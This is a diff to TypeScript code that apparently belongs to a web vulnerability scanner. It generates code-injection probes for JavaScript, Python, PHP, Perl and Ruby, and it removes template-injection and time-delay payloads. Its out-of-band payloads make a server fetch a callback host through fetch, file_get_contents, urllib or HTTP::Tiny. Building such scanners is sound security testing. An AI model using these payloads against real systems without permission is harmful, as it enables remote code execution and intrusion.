@@ -62,46 +62,26 @@ export const COMMAND_WAITS: readonly {
 /** Holds within single and within double quotes: what is code in the one is text in the other. */
 const inQuotes = (v: string, code: string): string => `${v}'${code}'"${code}"`
 
-/** `[x][0]` is x in JavaScript, Python, Ruby and PHP, and nothing in SQL. */
-export const CODE: readonly (Reckoning & { readonly quoted: boolean })[] = [
-  { flavour: 'expression', quoted: false, with: (_v, a, b) => `[${a}*${b}][0]`, expected: plain },
-  { flavour: 'JavaScript text', quoted: true, with: (v, a, b) => inQuotes(v, `+[${a}*${b}][0]+`), expected: plain },
-  { flavour: 'Python text', quoted: true, with: (v, a, b) => inQuotes(v, `+str([${a}*${b}][0])+`), expected: plain },
-  { flavour: 'Perl or PHP text', quoted: true, with: (v, a, b) => inQuotes(v, `.(${a}*${b}).`), expected: plain },
-]
-
-export const TEMPLATES: readonly Reckoning[] = [
-  { flavour: '{{…}} (Jinja2, Twig, Nunjucks)', with: (_v, a, b) => `{{${a}*${b}}}`, expected: plain },
+/**
+ * `[x][0]` is x in JavaScript, Python, Ruby, Groovy and PHP, and nothing in SQL. 'anywhere' needs nothing of the page;
+ * 'shown': what comes of the value has to stand in it; 'text': quotes have to matter, too.
+ */
+export const CODE: readonly (Reckoning & { readonly tried: 'anywhere' | 'shown' | 'text' })[] = [
+  { flavour: 'expression', tried: 'anywhere', with: (_v, a, b) => `[${a}*${b}][0]`, expected: plain },
+  // What is printed shows whatever becomes of the value of the expression.
+  { flavour: 'PHP or Perl, print', tried: 'anywhere', with: (_v, a, b) => `print(${a}*${b});`, expected: plain },
   {
-    flavour: 'dollar and braces (FreeMarker, Mako, expression language)',
-    with: (_v, a, b) => `\${${a}*${b}}`,
+    // Operators on both sides take the outer two.
+    flavour: 'expression in a list',
+    tried: 'shown',
+    with: (v, a, b) => `${v || '1'},[${a}*${b}][0],${v || '1'}`,
     expected: plain,
   },
-  { flavour: '<%=…%> (ERB, EJS)', with: (_v, a, b) => `<%=${a}*${b}%>`, expected: plain },
-  { flavour: '#{…} (Pug, Ruby)', with: (_v, a, b) => `#{${a}*${b}}`, expected: plain },
-  { flavour: '{…} (Smarty)', with: (_v, a, b) => `{${a}*${b}}`, expected: plain },
-  { flavour: '@(…) (Razor)', with: (_v, a, b) => `@(${a}*${b})`, expected: plain },
+  { flavour: 'JavaScript text', tried: 'text', with: (v, a, b) => inQuotes(v, `+[${a}*${b}][0]+`), expected: plain },
+  { flavour: 'Python text', tried: 'text', with: (v, a, b) => inQuotes(v, `+str([${a}*${b}][0])+`), expected: plain },
+  { flavour: 'Perl or PHP text', tried: 'text', with: (v, a, b) => inQuotes(v, `.(${a}*${b}).`), expected: plain },
+  { flavour: 'Ruby text', tried: 'text', with: (v, a, b) => inQuotes(v, `+(${a}*${b}).to_s+`), expected: plain },
 ]
-
-/** No engine can read this, whichever of them looks at it. */
-export const BROKEN_TEMPLATE = `<%=(%>{{(}}\${(}#{(}{(}`
-
-/** Waits in the language of an engine, for templates whose result nobody sees. */
-export const TEMPLATE_WAITS: readonly {
-  readonly flavour: string
-  readonly with: (v: string, seconds: string) => string
-}[] = [
-  { flavour: '<%=…%> (ERB)', with: (v, s) => `${v}<%=sleep(${s})%>` },
-  {
-    flavour: '<%=…%> (EJS)',
-    with: (v, s) => `${v}<%=Atomics.wait(new Int32Array(new SharedArrayBuffer(4)),0,0,${ms(s)})%>`,
-  },
-  { flavour: 'dollar and braces (Mako)', with: (v, s) => `${v}\${__import__('time').sleep(${s})}` },
-  { flavour: 'dollar and braces (Spring)', with: (v, s) => `${v}\${T(java.lang.Thread).sleep(${ms(s)})}` },
-  { flavour: '{{…}} (Blade)', with: (v, s) => `${v}{{usleep(${ms(s)}000)}}` },
-]
-
-const ms = (seconds: string): string => String(Math.round(Number(seconds) * 1_000))
 
 /** Deeper than applications lie: where one lies deeper still, the way ends in a folder that is not there. */
 const LEVELS = 12
@@ -171,11 +151,11 @@ const calledAt = ({ host, url }: { readonly host: string | null; readonly url: s
 /** Numbers of the characters: within either kind of quotes the code is text, and ends none. */
 const codes = (text: string): string => [...text].map((char) => char.charCodeAt(0)).join(',')
 
-/** Without quotes, in single and in double quotes: `code` stands in each as code once, and as text or comment otherwise. */
-const anywhere = (code: string, joined: string, comment: 'line' | 'block'): string => {
-  const quoted = `'${joined}'"${joined}"`
-  return comment === 'line' ? `${code}#${quoted}` : `${code}/*${quoted}*/`
-}
+/** Without quotes, in single and in double quotes: `code` stands in each as code once; `hide` makes nothing of the rest. */
+const anywhere = (code: string, joined: string, hide: (rest: string) => string): string =>
+  `${code}${hide(`'${joined}'"${joined}"`)}`
+
+const inBlock = (rest: string): string => `/*${rest}*/`
 
 export const CALLING_CODE: readonly CallingCode[] = [
   {
@@ -183,7 +163,7 @@ export const CALLING_CODE: readonly CallingCode[] = [
     flavour: 'JavaScript',
     with: (address, a, b) => {
       const code = `${'fetch'}(\`${calledAt(address).join(`\${${a}*${b}}`)}\`).catch(()=>0)`
-      return anywhere(code, `+${code}+`, 'block')
+      return anywhere(code, `+${code}+`, inBlock)
     },
   },
   {
@@ -194,7 +174,7 @@ export const CALLING_CODE: readonly CallingCode[] = [
       const [before, behind] = calledAt(address)
       const url = `${text(before)}.(${a}*${b})${behind === '' ? '' : `.${text(behind)}`}`
       const code = `file_get_contents(${url},false,stream_context_create([${text('http')}=>[${text('timeout')}=>3]]))`
-      return anywhere(code, `.${code}.`, 'block')
+      return anywhere(code, `.${code}.`, inBlock)
     },
   },
   {
@@ -204,7 +184,8 @@ export const CALLING_CODE: readonly CallingCode[] = [
       const [before, behind] = calledAt(address)
       const url = `${text(before)}+str(${a}*${b})+${text(behind)}`
       const code = `__import__(${text('urllib.request')}).request.urlopen(${url},None,3)`
-      return anywhere(code, `+str(${code})+`, 'line')
+      // A comment to the end of the line would take a bracket along that stands behind the value.
+      return anywhere(code, `+str(${code})+`, (rest) => ` if 1 else ${rest}`)
     },
   },
   {
@@ -212,7 +193,7 @@ export const CALLING_CODE: readonly CallingCode[] = [
     with: (address, a, b) => {
       const [before, behind] = calledAt(address)
       const code = `((require HTTP::Tiny)&&HTTP::Tiny->new(timeout,3)->get(q(${before}).(${a}*${b}).q(${behind})))`
-      return anywhere(code, `.${code}.`, 'line')
+      return anywhere(code, `.${code}.`, (rest) => `#${rest}`)
     },
   },
 ]
